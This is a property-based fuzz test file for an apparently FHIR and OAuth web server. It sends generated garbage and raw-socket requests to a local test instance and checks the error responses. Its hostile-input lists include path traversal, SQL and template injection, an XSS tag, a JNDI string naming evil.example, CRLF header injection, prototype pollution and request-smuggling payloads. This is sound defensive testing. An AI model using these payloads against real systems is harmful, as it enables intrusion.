import { Agent, request as openRequest } from 'node:http'
import { connect } from 'node:net'
import { type Owner, startWorld, type World } from '@damson/testkit'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { begin } from '../identity/steps.ts'

const { numRuns = 200 } = fc.readConfigureGlobal()

interface Sent {
  readonly method: string
  readonly path: string
  readonly headers: Readonly<Record<string, string>>
  readonly body: Buffer | undefined
}
interface Got {
  readonly status: number
  readonly headers: Readonly<Record<string, string | string[] | undefined>>
  readonly text: string
}

const HOSTILE = [
  '',
  '\0',
  'a\0b',
  '\ud800',
  '\u202e',
  '💥',
  "' or true --",
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'null',
  '[object Object]',
  '\r\nX-Injected: yes',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '%',
  '%25',
  'a'.repeat(5_000),
  '00000000-0000-4000-8000-000000000000',
  '00000000-0000-0000-0000-000000000000',
  '-1',
  '1e999',
  'NaN',
]
const FIELDS = [
  'resourceType',
  'id',
  'type',
  'entry',
  'request',
  'method',
  'url',
  'resource',
  'meta',
  'name',
  'email',
  'password',
  'login',
  'profile',
  'scope',
  'projectId',
  'projectName',
  'clientId',
  'codeChallenge',
  'codeChallengeMethod',
  'nonce',
  'secret',
  'loginId',
  'oldPassword',
  'newPassword',
  'firstName',
  'lastName',
  'externalId',
  'membership',
  'access',
  'accessPolicy',
  'kind',
  'redirectUris',
  'allowedOrigin',
  'parameter',
  'op',
  'path',
  'value',
  'grant_type',
  'code',
  'code_verifier',
  'refresh_token',
  'client_id',
  'client_secret',
  'redirect_uri',
  'token',
  'response_type',
  'state',
  'code_challenge',
  'request_uri',
  'prompt',
  '_id',
  '_sort',
  '_count',
  '_cursor',
  '_format',
  '__proto__',
]
const TYPES = [
  'application/json',
  'application/fhir+json',
  'application/json-patch+json',
  'application/x-www-form-urlencoded',
  'text/plain',
  'application/octet-stream',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'APPLICATION/JSON',
  'garbage',
  '',
]

const text = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 40 }))
const leaf: fc.Arbitrary<unknown> = fc.oneof(
  text,
  fc.double(),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
)
const json: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    leaf,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom(...FIELDS), text), tie('value'), { maxKeys: 6 }),
  ),
})).value
const form = fc
  .array(fc.tuple(fc.oneof(fc.constantFrom(...FIELDS), text), text), { maxLength: 8 })
  .map((pairs) =>
    new URLSearchParams(pairs.map(([name, value]) => [name.toWellFormed(), value.toWellFormed()])).toString(),
  )
const body: fc.Arbitrary<Buffer | undefined> = fc.oneof(
  fc.constant(undefined),
  json.map((value) => Buffer.from(JSON.stringify(value) ?? '')),
  form.map((pairs) => Buffer.from(pairs)),
  fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
  fc
    .constantFrom(
      '{',
      '{"a":}',
      '{"a":1,"a":2}',
      '"text"',
      'null',
      '[]',
      '\ufeff{}',
      '{"__proto__":{"isAdmin":true}}',
      '['.repeat(50_000),
      `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
      '{"a":"\ud800"}',
      '1e9999999',
      '%',
      '=&=&&&=',
      'a=%zz',
    )
    .map((raw) => Buffer.from(raw)),
)
const segment = fc.oneof(
  text.map((raw) => encodeURIComponent(raw.toWellFormed())),
  fc.constantFrom(
    '%zz',
    '%',
    '%00',
    '%ED%A0%80',
    '%2F',
    '%2e%2e',
    '..',
    '.',
    ';',
    '*',
    ':id',
    '$execute',
    '_history',
    '_search',
    'a'.repeat(600),
  ),
)
const query = fc.oneof(
  fc.constant(''),
  form,
  fc.constantFrom('%', '?', '&&&', '_format=%00', '_count=1e9', 'a=%zz', '=', '#'),
)
const headerValue = fc.oneof(
  fc.constantFrom(
    '',
    'Bearer',
    'Bearer x',
    'Basic',
    'Basic eDp5',
    'Basic !!!!',
    'Digest x',
    `Bearer ${'x'.repeat(9_000)}`,
  ),
  fc.string({ unit: 'grapheme-ascii', maxLength: 30 }),
)
const headers = fc.record(
  {
    'content-type': fc.constantFrom(...TYPES),
    accept: fc.constantFrom('*/*', 'application/fhir+json', 'text/html', 'application/xml', '', 'garbage;;q=x'),
    authorization: headerValue,
    origin: fc.constantFrom('null', 'https://evil.example', 'http://localhost:1', '', 'garbage'),
    cookie: fc.constantFrom('', 'a', 'damson-browser=x', '=;=;', `damson-browser=${'A'.repeat(43)}`, 'a=%zz'),
    'if-match': fc.constantFrom('W/"1"', 'garbage', '', 'W/"99999999999999999999"'),
    'if-none-exist': fc.constantFrom('', 'identifier=x', '%', '_id=%00', 'a'.repeat(3_000)),
    'x-medplum': fc.constantFrom('extended', 'garbage'),
    'x-forwarded-for': fc.constantFrom('garbage', '1.2.3.4, garbage', '\u00ff'),
    'x-security-context': fc.constantFrom('Patient/123', 'garbage', ''),
  },
  { requiredKeys: [] },
)

/** Routes whose failures a person reads, and those of OAuth clients. */
const isPage = (url: string): boolean =>
  url === '/' ||
  /^\/(signin|account|assets|dev\/(inbox|new-project)|oauth2\/(authorize|logout)|signed-out|set-up|device$|code$|leaving-basic|openapi|console(?!\/assets))/.test(
    url,
  ) ||
  /^\/auth\/(setpassword|verifyemail|undoemail|notme|trace|external)\/?/.test(url)
/** As the router has it: `app/http.ts`. */
const LONGEST_PARAMETER = 500
const isDecodable = (segment: string): boolean => {
  try {
    return decodeURIComponent(segment) !== undefined
  } catch {
    return false
  }
}
const isOAuth = (url: string): boolean =>
  /^\/(oauth2\/(device_authorization|token|introspect|revoke|userinfo)|auth\/exchange)/.test(url) ||
  /^\/\.well-known\/(?!user-access-brands)/.test(url)

describe('generated garbage', () => {
  let world: World
  let owner: Owner
  const agent = new Agent({ keepAlive: true, maxSockets: 4, timeout: 60_000 })
  beforeAll(async () => {
    world = await startWorld()
    owner = await world.actors.owner()
  })
  afterAll(async () => {
    agent.destroy()
    await world.close()
  })

  function send({ method, path, headers: sent, body: content }: Sent): Promise<Got> {
    const { hostname, port } = new URL(world.baseUrl)
    return new Promise((resolve, reject) => {
      const outgoing = openRequest(
        {
          hostname,
          port,
          method,
          path,
          agent,
          headers: { ...sent, ...(content && { 'content-length': content.length }) },
        },
        (answer) => {
          const chunks: Buffer[] = []
          answer.on('data', (chunk: Buffer) => chunks.push(chunk))
          answer.on('end', () =>
            resolve({
              status: answer.statusCode ?? 0,
              headers: answer.headers,
              text: Buffer.concat(chunks).toString('utf8'),
            }),
          )
          answer.on('error', reject)
        },
      )
      outgoing.setTimeout(5_000, () => outgoing.destroy(new Error(`no answer to ${method} ${path.slice(0, 200)}`)))
      outgoing.on('error', (error: NodeJS.ErrnoException) => {
        // What is too large to be read has no method yet: its refusal has a body, for HEAD too.
        const isTooLarge = method === 'HEAD' && error.code === 'HPE_CLOSED_CONNECTION'
        if (isTooLarge) resolve({ status: 431, headers: {}, text: '' })
        else reject(error)
      })
      if (content !== undefined) outgoing.write(content)
      outgoing.end()
    })
  }

  function expectProper(method: string, url: string, { status, headers: got, text: answered }: Got): void {
    expect(status).toBeGreaterThanOrEqual(200)
    expect(status < 500, `${status} ${answered}`).toBe(true)
    expect(got['x-injected']).toBeUndefined()
    if (status < 400 || method === 'HEAD' || answered === '') return
    const type = String(got['content-type'])
    expect(got['cache-control']).toBe('no-store')
    if (type.startsWith('text/html')) {
      expect(isPage(url), url).toBe(true)
      expect(answered).not.toMatch(/(?![\n])\p{Cc}/u)
      expect(answered).not.toContain('<script>')
      return
    }
    const parsed = JSON.parse(answered) as Record<string, unknown>
    expect(strings(parsed).filter((one) => /\p{Cc}/u.test(one) || !one.isWellFormed())).toEqual([])
    // A limit is an OperationOutcome everywhere; so is what was too large for its address to be known.
    if (isOAuth(url) && status !== 429 && status !== 431)
      expect(parsed).toEqual({
        error: expect.any(String),
        error_description: expect.stringMatching(/./),
        error_uri: expect.stringMatching(/\/auth\/trace\/[0-9a-f-]{36}$/),
      })
    else {
      expect(parsed['resourceType'], `${method} ${url}: ${answered}`).toBe('OperationOutcome')
      const [issue] = parsed['issue'] as { details: { text: string } }[]
      expect(issue?.details.text.length).toBeGreaterThan(3)
    }
  }

  const strings = (value: unknown): readonly string[] =>
    typeof value === 'string'
      ? [value]
      : typeof value === 'object' && value !== null
        ? Object.entries(value).flatMap(([name, member]) => [name, ...strings(member)])
        : []

  test('at every route is answered in the route’s own shape, never with 500, never late', async () => {
    const routes = [...new Map(world.app.routes.map((route) => [`${route.method} ${route.url}`, route])).values()]
    expect(routes.length).toBeGreaterThan(50)
    for (const { method, url } of routes) {
      const names = [...url.matchAll(/:\w+|\*/g)].map(([name]) => name)
      const params = fc.tuple(...names.map(() => segment))
      await fc.assert(
        fc.asyncProperty(params, query, headers, body, fc.boolean(), async (filled, search, given, content, known) => {
          let at = 0
          const path = url.replaceAll(/:\w+|\*/g, () => filled[at++] ?? 'x').replaceAll('#', '%23')
          const answer = await send({
            method,
            path: `${path}${search === '' ? '' : `?${search.replaceAll('#', '%23')}`}`,
            // Signing out ends the token that the rest of the walk needs.
            headers: known && url !== '/oauth2/logout' ? { ...given, authorization: `Bearer ${owner.token}` } : given,
            body: ['GET', 'HEAD'].includes(method) ? undefined : content,
          })
          // With dots or slashes in it an address may be another route's.
          const isSame = filled.every((one) => one !== '' && !/^\.|%2e|%2f|\//i.test(one))
          // What cannot be decoded or is too long is no route's address: a browser gets the page of what is not there.
          const isNowhere = filled.some((one) => !isDecodable(one) || one.length > LONGEST_PARAMETER)
          const isPageOfNowhere = isNowhere && String(answer.headers['content-type']).startsWith('text/html')
          const route = isPageOfNowhere && [400, 404, 414].includes(answer.status) ? '/signin' : url
          expectProper(method, isSame ? route : `${url} or another`, isSame ? answer : { ...answer, text: '' })
        }),
        { numRuns: numRuns / 5 },
      )
    }
    // Whoever asked is still who they were.
    expect((await world.call('auth/me', { token: owner.token })).status).toBe(200)
  })

  test('in the fields of a sign-in is refused by field, and signs nobody in', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          'email',
          'password',
          'scope',
          'nonce',
          'projectId',
          'clientId',
          'resourceType',
          'codeChallenge',
        ),
        leaf,
        async (field, value) => {
          const { answer } = await begin(world.call, { email: owner.email, password: owner.password, [field]: value })
          expect(answer.status, answer.text).toBeLessThan(500)
          if (['email', 'password'].includes(field)) expect(answer.status).toBe(400)
        },
      ),
    )
  })

  /** Writes bytes to a socket, as no client library would, and reads what comes back. */
  function raw(bytes: string | Buffer): Promise<string> {
    const { port } = new URL(world.baseUrl)
    return new Promise((resolve, reject) => {
      const socket = connect(Number(port), '127.0.0.1', () => socket.write(bytes))
      let answered = ''
      socket.setTimeout(5_000, () => socket.destroy(new Error(`no answer to ${String(bytes).slice(0, 100)}`)))
      socket.on('data', (chunk) => {
        answered += chunk.toString()
        if (answered.includes('\r\n\r\n')) socket.end()
      })
      socket.on('close', () => resolve(answered))
      socket.on('error', reject)
    })
  }
  const host = 'Host: localhost\r\nConnection: close\r\n'

  test.each<[string, string, number]>([
    ['no HTTP at all', 'garbage\r\n\r\n', 400],
    ['TLS on a plain port', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n', 400],
    ['an unknown method', `GARBAGE /fhir/R4/Patient HTTP/1.1\r\n${host}\r\n`, 400],
    ['a method that nothing answers', `PROPFIND /fhir/R4/Patient HTTP/1.1\r\n${host}\r\n`, 404],
    ['TRACE', `TRACE /fhir/R4/Patient HTTP/1.1\r\n${host}\r\n`, 404],
    ['a control character in the address', `GET /fhir/R4/\x01 HTTP/1.1\r\n${host}\r\n`, 400],
    ['a line end in a header', `GET /fhir/R4/Patient HTTP/1.1\r\n${host}X: a\rb\r\n\r\n`, 400],
    ['headers of 100 kB', `GET /fhir/R4/Patient HTTP/1.1\r\n${host}X: ${'a'.repeat(100_000)}\r\n\r\n`, 431],
    ['an address of 100 kB', `GET /fhir/R4/${'a'.repeat(100_000)} HTTP/1.1\r\n${host}\r\n`, 431],
    ['an address of 10 kB', `GET /fhir/R4/${'a'.repeat(10_000)} HTTP/1.1\r\n${host}\r\n`, 414],
    ['an address that does not decode', `GET /fhir/R4/%zz HTTP/1.1\r\n${host}\r\n`, 400],
    ['an address that is half a surrogate pair', `GET /fhir/R4/%ED%A0%80 HTTP/1.1\r\n${host}\r\n`, 400],
    ['NUL in the address', `GET /fhir/R4/Patient/%00 HTTP/1.1\r\n${host}\r\n`, 400],
    ['NUL in the query', `GET /fhir/R4/Patient?name=%00 HTTP/1.1\r\n${host}\r\n`, 400],
    ['two lengths', `POST /oauth2/token HTTP/1.1\r\n${host}Content-Length: 1\r\nContent-Length: 2\r\n\r\nab`, 400],
    [
      'a length and chunks: the trick of request smugglers',
      `POST /oauth2/token HTTP/1.1\r\n${host}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
      400,
    ],
    ['two hosts', `GET /fhir/R4/Patient HTTP/1.1\r\n${host}Host: evil.example\r\n\r\n`, 400],
    [
      'two credentials, of which a proxy in front may have looked at the other',
      `GET /fhir/R4/Patient HTTP/1.1\r\n${host}Authorization: Bearer x\r\nauthorization: Bearer y\r\n\r\n`,
      400,
    ],
    [
      'two content types',
      `POST /oauth2/token HTTP/1.1\r\n${host}Content-Type: application/x-www-form-urlencoded\r\n` +
        `Content-Type: application/json\r\nContent-Length: 29\r\n\r\ngrant_type=client_credentials`,
      400,
    ],
    [
      'a body in a coding that nobody undoes',
      `PUT /fhir/R4/Binary/1 HTTP/1.1\r\n${host}Content-Encoding: gzip\r\nContent-Length: 2\r\n\r\na=`,
      415,
    ],
    ['a negative length', `POST /oauth2/token HTTP/1.1\r\n${host}Content-Length: -1\r\n\r\n`, 400],
    ['a length that is no number', `POST /oauth2/token HTTP/1.1\r\n${host}Content-Length: x\r\n\r\n`, 400],
  ])('on the wire, %s, is refused in our shape', async (_, bytes, status) => {
    const answered = await raw(bytes)
    expect(answered.split('\r\n')[0]).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `))
    const [, content = ''] = answered.split('\r\n\r\n')
    const parsed = JSON.parse(content) as { resourceType?: string; error?: string }
    expect(parsed.error ?? parsed.resourceType).toMatch(/^(OperationOutcome|invalid_request)$/)
    expect(content).not.toMatch(/aaaaaaaa|\p{Cc}/u)
    expect(answered.toLowerCase()).toContain('cache-control: no-store')
  })

  test('on the wire, a whole URL as the target is the address that it names, and no other', async () => {
    const get = (target: string): Promise<string> =>
      raw(`GET ${target} HTTP/1.1\r\n${host}Authorization: Bearer ${owner.token}\r\n\r\n`)
    for (const origin of ['http://localhost', 'HTTPS://id.example.org:8443', 'http://xxPatient']) {
      expect(await get(`${origin}/fhir/R4/Observation?_count=1`)).toContain('fhir/R4/Observation?_count=1"')
      expect(await get(`${origin}/fhir/R4/Nonsense`)).toContain('\\"Nonsense\\" is no resource type')
      expect(await get(`${origin}/healthcheck`)).toContain('"ok":true')
    }
    expect(await get('ftp://localhost/healthcheck')).toMatch(/^HTTP\/1\.1 4/)
  })

  test('on the wire, without a host, is refused', async () => {
    expect(await raw('GET /fhir/R4/Patient HTTP/1.1\r\nConnection: close\r\n\r\n')).toMatch(/^HTTP\/1\.1 400 /)
  })

  test.each([
    ['oauth2/token', 'application/x-www-form-urlencoded', 413],
    ['auth/login', 'application/json', 413],
    ['fhir/R4/Patient', 'application/fhir+json', 413],
    ['admin/projects/x/invite', 'application/json', 413],
    ['signin', 'application/x-www-form-urlencoded', 413],
  ])('of two megabytes at %s is refused', async (path, type, status) => {
    const answer = await send({
      method: 'POST',
      path: `/${path}`,
      headers: { 'content-type': type, authorization: `Bearer ${owner.token}` },
      body: Buffer.alloc(2 * 1_048_576, 'a'),
    })
    expect(answer.status).toBe(status)
    expectProper('POST', `/${path}`, answer)
  })

  test('names that reach into the language change nothing', async () => {
    for (const content of ['{"__proto__":{"superAdmin":true}}', '{"constructor":{"prototype":{"superAdmin":true}}}'])
      for (const path of [
        '/auth/login',
        '/fhir/R4/Patient',
        '/auth/newproject',
        `/admin/projects/${owner.project}/invite`,
      ])
        await send({
          method: 'POST',
          path,
          headers: { 'content-type': 'application/json', authorization: `Bearer ${owner.token}` },
          body: Buffer.from(content),
        })
    expect(({} as { superAdmin?: boolean }).superAdmin).toBeUndefined()
    expect((await world.call('auth/me', { token: owner.token })).body.project.superAdmin).toBeUndefined()
  })
})
